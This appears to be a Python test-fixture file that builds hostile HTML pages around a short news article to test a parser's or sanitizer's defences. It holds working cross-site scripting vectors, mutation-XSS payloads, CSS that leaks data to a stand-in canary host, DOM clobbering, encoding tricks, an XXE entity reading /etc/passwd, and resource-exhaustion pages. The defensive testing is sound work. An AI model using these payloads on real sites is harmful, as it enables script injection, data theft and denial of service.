"""Pages that try to run a script, to call home, to lead away, or to break whoever shows them.

All written for these tests. Each still holds an article, so that it can be annotated. A script that ran calls
itself RAN, in the title and on the console; whatever is fetched is fetched from CANARY.
"""

from typing import NamedTuple

CANARY = "http://canary.example/"
RAN = "script-ran"
# Holds no double quote, so that it fits into an attribute.
JS = f"top.ran=1;parent.ran=1;document.title='{RAN}';console.log('{RAN}')"
IMG = f'<img src="{CANARY}i.png">'
BAD = f'<img src="{CANARY}b.png" onerror="{JS}">'
SCRIPT = f"<script>{JS}</script>"

OPENING = "The council said on Monday"
PROSE = f"""<h1>Bridge opens</h1>
<p>{OPENING} that the bridge, closed for most of the year, would open again.</p>
<p>People who live near it have been asked to use the other road until then, and buses go round.</p>"""


class Hostile(NamedTuple):
    """One page, and what becomes of it: in a browser without our defence, and with us."""

    name: str
    raw: bytes
    runs: bool = False  # undefended, a script of it runs
    asks: bool = True  # undefended, it fetches from CANARY
    refusal: str = ""  # why the parser refuses it, if it does
    says: str = OPENING  # in its canonical text


def page_of(body: str, *, head: str = "", prose: str = PROSE) -> bytes:
    text = f"<!doctype html><html lang=en><head><title>Daily</title>{head}</head><body>{body}{prose}</body></html>"
    return text.encode("utf-8", "surrogatepass")


def styled(css: str, body: str = "") -> bytes:
    return page_of(body, head=f"<style>{css}</style>")


SCRIPTS = [
    Hostile(
        "scripts",
        page_of(f'{SCRIPT}<script src="{CANARY}x.js"></script><script>alert(1)</script>'),
        runs=True,
    ),
    Hostile(
        "scripts written oddly",
        page_of(f"<ScRiPt/x>{JS}</sCrIpT ><script>//<!--<script>\n{JS}\n//</script>\n</script>{IMG}"),
        runs=True,
    ),
    Hostile(
        "script modules",
        page_of(
            f'<script type="module">{JS}</script><script type="module" src="{CANARY}m.js"></script>'
            f'<script type="speculationrules">{{"prefetch":[{{"urls":["{CANARY}s"]}}]}}</script>'
            f'<script type="importmap">{{"imports":{{"a":"{CANARY}a.js"}}}}</script>'
        ),
        runs=True,
    ),
    Hostile(
        "handlers",
        page_of(
            f'{BAD}<p onclick="{JS}">Press</p><details open ontoggle="{JS}"><summary>More</summary>text</details>'
            f'<div onmouseover="{JS}" onpointerdown="{JS}" style="animation:x 1s" onanimationstart="{JS}">Over</div>'
            f'<marquee onstart="{JS}">Runs</marquee><a href="#x" onfocus="{JS}">Focus</a>'
        ),
        runs=True,
    ),
    Hostile(
        "drawings",
        page_of(
            f'<svg onload="{JS}"><script>{JS}</script><a xlink:href="javascript:{JS}"><text y="9">Go</text></a>'
            f'<image href="{CANARY}v.png"/><use href="{CANARY}v.svg#a"/><animate onbegin="{JS}" attributeName="x" dur="1s"/>'
            f'<foreignObject><iframe src="{CANARY}f"></iframe><p onclick="{JS}">Inside</p></foreignObject></svg>'
        ),
        runs=True,
    ),
    Hostile(
        "formulas",
        page_of(
            f'<math href="javascript:{JS}"><maction actiontype="statusline" xlink:href="javascript:{JS}"><mi>x</mi></maction>'
            f"<mtext>{BAD}</mtext><annotation-xml encoding=text/html>{BAD}</annotation-xml></math>"
        ),
        runs=True,
    ),
    Hostile(
        "links",
        page_of(
            f'<a href="javascript:{JS}">One</a> <a href="java&#10;script:{JS}">Two</a> <a href="&#1;JaVaScRiPt:{JS}">Three</a>'
            f'<a href="vbscript:x">Four</a> <a href="data:text/html,{SCRIPT}">Five</a>'
            f'<a href="#top" ping="{CANARY}ping">Six</a> <a target="_blank" href="{CANARY}new">Seven</a>'
            f'<a href="#d" download="x">Eight</a><map name="m"><area shape="default" href="javascript:{JS}"></map>'
        ),
        runs=True,
    ),
    Hostile(
        "frames",
        page_of(
            f'<iframe src="{CANARY}f"></iframe><iframe srcdoc="{SCRIPT}"></iframe><iframe src="javascript:{JS}"></iframe>'
        ),
        runs=True,
    ),
    Hostile(
        "plugins",
        page_of(
            f'<object data="{CANARY}o"></object><embed src="{CANARY}e"><applet code="{CANARY}a"></applet>'
            f'<object data="javascript:{JS}"></object><object><param name="movie" value="{CANARY}m"></object><portal src="{CANARY}p"></portal>'
        ),
    ),
    Hostile(
        "forms",
        page_of(
            f'<form action="javascript:{JS}" id="f"><input autofocus onfocus="{JS}"><input type="image" src="{CANARY}g">'
            f'<button formaction="javascript:{JS}" form="f">Go</button><button type="submit">Send</button>'
            f'<select autofocus onfocus="{JS}"><option>a</select></form>'
        ),
        runs=True,
    ),
    Hostile(
        "elements of their own",
        page_of(
            f'<x-ink tabindex="0" autofocus onfocus="{JS}" onclick="{JS}">Hello</x-ink><button is="x-ink" onclick="{JS}">Press</button>'
            f'<div contenteditable autofocus onfocus="{JS}">Write</div><p slot="x">Slot</p>{IMG}'
        ),
        runs=True,
    ),
    Hostile(
        "media",
        page_of(
            f'<video poster="{CANARY}p" src="{CANARY}v" autoplay></video><audio src="{CANARY}a" onerror="{JS}"></audio>'
            f'<picture><source srcset="{CANARY}1 1x"><img srcset="{CANARY}2 2x" alt=""></picture>'
            f'<table background="{CANARY}t"><tr><td background="{CANARY}d">Cell</table>'
        ),
        runs=True,
    ),
]

# What one parser reads as text and another, or a second reading, as markup.
MUTATIONS = [
    Hostile("mutation by noscript", page_of(f"<noscript><p title='</noscript>{BAD}'></noscript>"), runs=True),
    Hostile(
        "mutation by style in a drawing",
        page_of(f"<svg><style>{BAD}</style></svg><svg></p><style><a id='</style>{BAD}'>"),
        runs=True,
    ),
    Hostile(
        "mutation by formula",
        page_of(f"<form><math><mtext></form><form><mglyph><style></math>{BAD}</style></form>{IMG}"),
    ),
    Hostile(
        "mutation by select",
        page_of(f"<select><template>{SCRIPT}</template><option><style></select>{BAD}</style></select>{IMG}"),
    ),
    Hostile(
        "mutation by template",
        page_of(
            f"<template><template>{BAD}</template>{SCRIPT}</template><table><td><template>{BAD}</template></table>{IMG}"
        ),
    ),
    Hostile(
        "mutation by raw text",
        page_of(
            f"<textarea></textarea>{BAD}<xmp></xmp>{BAD}<noembed></noembed>{BAD}",
            head=f"<title></title>{BAD}",
        ),
        runs=True,
    ),
    Hostile(
        "mutation by comment",
        page_of(f"<!-->{BAD}--><!--!>{BAD}--!>{BAD}<![CDATA[>{BAD}]]><!x >{BAD}<?php {BAD}"),
        runs=True,
    ),
    Hostile(
        "mutation by table",
        page_of(f"<table>{SCRIPT}<a href=x>{BAD}<table><tr><caption>{BAD}<b><td></table></a>"),
        runs=True,
    ),
]

ELSEWHERE = [
    Hostile(
        "refresh",
        page_of(
            "",
            head=f'<meta http-equiv="refresh" content="0;url={CANARY}r"><meta http-equiv="refresh" content="0;url=javascript:{JS}">',
        ),
    ),
    Hostile(
        "base",
        page_of(
            '<img src="rel.png"><a href="rel">Go</a>',
            head=f'<base href="{CANARY}" target="_top"><link rel="stylesheet" href="s.css">',
        ),
    ),
    Hostile(
        "hints",
        page_of(
            "",
            head=f'<link rel="prefetch" href="{CANARY}1"><link rel="preload" as="image" href="{CANARY}2">'
            f'<link rel="modulepreload" href="{CANARY}3"><link rel="icon" href="{CANARY}4"><link rel="preconnect" href="{CANARY}">'
            f'<link rel="stylesheet" href="{CANARY}5" onload="{JS}" onerror="{JS}"><link rel="manifest" href="{CANARY}6">'
            f'<link rel="dns-prefetch" href="{CANARY}">',
        ),
        runs=True,
    ),
    Hostile(
        "policies of its own",
        page_of(
            IMG,
            head=f"""<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'; report-uri {CANARY}c">
            <meta http-equiv="set-cookie" content="sessionid=x"><meta name="referrer" content="unsafe-url">""",
        ),
    ),
    Hostile(
        "windows",
        page_of(
            f'<script>open("{CANARY}w");{JS};setTimeout(() => {{ top.location = "{CANARY}t" }}, 50)</script>'
            f'<form action="{CANARY}s" target="_blank"><button>Go</button></form>'
        ),
        runs=True,
    ),
]

STYLES = [
    Hostile(
        "style addresses",
        styled(
            f'body{{background:url({CANARY}1)}}h1{{cursor:url("{CANARY}2"),auto}}p::before{{content:url({CANARY}3)}}',
            f'<p style="background:url({CANARY}4)">One</p><ul style="list-style:url(\'{CANARY}5\')"><li>Two</ul>',
        ),
    ),
    Hostile(
        "style imports",
        styled(f'@import url({CANARY}1);@import "{CANARY}2" screen;@\\69mport url({CANARY}3);'),
    ),
    Hostile(
        "style escapes",
        styled(
            f"p{{background:u\\72l({CANARY}1)}}h1{{background:\\75\\000072\\6c ({CANARY}2)}}",
            f'<p style="background:\\75 rl({CANARY}3);x:ur/**/l({CANARY}4)">One</p>',
        ),
    ),
    Hostile(
        "style that joins",
        styled(
            f'@im</port "{CANARY}1";h1{{background:u</rl({CANARY}2)}}b{{background:u@font-face{{}}rl({CANARY}3)}}'
            f"i{{background:u<!--rl({CANARY}4)}}u{{background:u@import 'x';rl({CANARY}5)}}p{{background:url({CANARY}6)}}",
            '<p style="position:&#1;fixed">One</p><p style="po!importantsition:fixed"><b>Two</b><i>Three</i><u>Four</u></p>',
        ),
    ),
    Hostile(
        "style functions",
        styled(
            f'p{{background:image-set("{CANARY}1" 1x)}}h1{{background:-webkit-image-set(url({CANARY}2) 1x);background:cross-fade(url({CANARY}3),red)}}'
            f'@font-face{{font-family:ink;src:url({CANARY}4)}}p{{font-family:ink}}@property --x{{syntax:"<url>";inherits:true;initial-value:url({CANARY}5)}}'
        ),
    ),
    Hostile(
        "style spies",
        styled(
            f":root{{--x:url({CANARY}1)}}a[href^='/']{{background:url({CANARY}2)}}p{{background:var(--x)}}p:hover{{background:url({CANARY}3)}}"
            f"input[value^=a]{{background:url({CANARY}4)}}",
            '<a href="/secret">Go</a><input value="abc">',
        ),
    ),
    Hostile(
        "style that ends",
        styled(
            f"p{{mask:url({CANARY}1);filter:url({CANARY}2#f);-moz-binding:url({CANARY}3);behavior:url({CANARY}4);width:expression({JS})}}</style>{SCRIPT}<style>"
        ),
        runs=True,
    ),
    Hostile(
        "style in a style",
        styled(
            f"p{{background:url('data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22{RAN}%22/>')}}",
            f'<img src="data:image/svg+xml,<svg/onload=x>">{IMG}',
        ),
    ),
    Hostile(
        "covers",
        styled(
            "*{pointer-events:none!important}html{visibility:hidden;overflow:hidden}",
            f"""<a href="{CANARY}x" style="position:fixed;inset:0;
        z-index:2147483647;background:#fff;opacity:.01;pointer-events:auto">Continue</a>{IMG}""",
        ),
    ),
    Hostile(
        "style bomb",
        styled(
            ":root{--a0:x x x x;"
            + "".join(f"--a{n}:" + f"var(--a{n - 1})" * 4 + ";" for n in range(1, 30))
            + "}p{font-family:var(--a29)}"
            + ":not(" * 300
            + "p"
            + ")" * 300
            + "{color:red}"
            + "@media all{" * 300,
            IMG,
        ),
    ),
]

CLOBBERING = [
    Hostile(
        "names",
        page_of(
            "".join(
                f'<img name="{name}" id="{name}" src="{CANARY}{name}"><form name="{name}"><input name="{name}"></form>'
                for name in (
                    "body",
                    "head",
                    "documentElement",
                    "createElement",
                    "createTextNode",
                    "getSelection",
                    "defaultView",
                    "goldpan",
                    "parent",
                    "caretPositionFromPoint",
                    "addEventListener",
                    "querySelectorAll",
                )
            )
        ),
    ),
    Hostile(
        "names of prototypes",
        page_of(
            f'<a id="__proto__" name="constructor">One</a><iframe name="self" srcdoc="x"></iframe><object id="top" name="top"></object>'
            f'<p id="frame" class="toString" data-tag="script" data-href="javascript:{JS}">Two</p>{IMG}'
        ),
    ),
]

_WIDE = f"<!doctype html><html><head><title>Daily</title></head><body>{SCRIPT}{IMG}{PROSE}</body></html>"

BYTES = [
    Hostile(
        "zero bytes",
        page_of(
            f'<scr\0ipt>{JS}</scr\0ipt><img\0src={CANARY}1 onerror="{JS}"><a href="java\0script:{JS}">One</a><p>Ze\0ro</p>{IMG}'
        ),
    ),
    Hostile("sixteen bits", b"\xff\xfe" + _WIDE.encode("utf-16-le"), runs=True),
    Hostile("sixteen bits, big end", b"\xfe\xff" + _WIDE.encode("utf-16-be"), runs=True),
    Hostile(
        "seven bits", page_of(f"+ADw-script+AD4-{JS}+ADw-/script+AD4-{IMG}", head='<meta charset="utf-7">')
    ),
    Hostile("plain text", page_of("", prose=f"{IMG}{PROSE}<plaintext>{SCRIPT}{BAD}</plaintext>")),
    Hostile(
        "old frames",
        f'<html><frameset onload="{JS}"><frame src="{CANARY}f"><frame src="javascript:{JS}"></frameset><noframes>{PROSE}'.encode(),
        runs=True,
        says="",
    ),
    Hostile(
        "shadow",
        page_of(
            "",
            prose=f'<div><template shadowrootmode="open"><style>:host{{background:url({CANARY}1)}}</style>{SCRIPT}{BAD}<slot></slot></template>{PROSE}</div>',
        ),
        runs=True,
    ),
    Hostile(
        "directions and pictures",
        page_of(
            f"<p>\u202eno\u2066 \U0001f469\u200d\U0001f467 &#xD800; \ud800 &#x1F600; a\u0301 \ufeff \u2028 end\u202c</p>{IMG}"
        ),
    ),
    Hostile(
        "entities",
        f'<?xml version="1.0"?><?xml-stylesheet href="{CANARY}x" type="text/xsl"?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>'.encode()
        + page_of(f"<p>&x; &lt;script&gt;{JS}</p>{IMG}"),
    ),
    Hostile("hanging quote", page_of(f"{IMG}<img src='{CANARY}?", prose=f"{PROSE}<p>'>{PROSE}")),
]

SIZES = [
    Hostile(
        "huge cells",
        page_of(
            f'<table><colgroup><col span="1000000"><tr><td colspan="100000" rowspan="65534">One<td width="1000000000">Two</table><ol start="99999999999">'
            f'<li value="2147483648">Three</ol><img width="1e9" height="1000000000" src="{CANARY}h"><hr size="100000000"><font size="999">Four</font>'
        ),
    ),
    Hostile("deep inline", page_of(f"{'<b><i>' * 700}Deep{IMG}")),
    Hostile("deep blocks", page_of(f"{'<div>' * 60_000}Deep{IMG}"), refusal="too-deep"),
    Hostile(
        "many attributes",
        page_of(f"<p {' '.join(f'a{n}=1' for n in range(4_000))}>Many</p>{IMG}"),
        refusal="too-many-attributes",
    ),
    Hostile("many elements", page_of(f"{'<br>' * 130_000}{IMG}"), refusal="too-many-nodes"),
]

PAGES = [*SCRIPTS, *MUTATIONS, *ELSEWHERE, *STYLES, *CLOBBERING, *BYTES, *SIZES]
